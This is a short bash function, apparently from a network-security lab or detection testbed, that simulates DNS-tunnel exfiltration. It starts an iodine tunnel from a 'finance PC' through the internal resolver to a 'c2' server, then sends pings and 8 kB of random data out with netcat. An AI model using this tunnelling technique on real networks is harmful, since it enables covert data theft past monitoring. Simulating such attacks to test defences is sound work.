# iodine from a finance PC through the province's own resolver to a server outside; a few pings and 8 kB of data go through.
# shellcheck shell=bash

attack_dns_tunnel() {
  on c2 bash -c 'timeout 60 nc -l -p 9000 172.31.99.1 >/dev/null' &
  local sink=$!
  on pc-stc timeout 55 iodine -f -r -P saola-demo 10.10.20.53 t.cdn-sync.example &
  local client=$!
  sleep 12
  on pc-stc ping -c 5 -i 1 172.31.99.1 || true
  on pc-stc bash -c 'head -c 8000 /dev/urandom | timeout 30 nc -q 2 172.31.99.1 9000' || true
  wait $client || true
  kill $sink 2>/dev/null || true
}
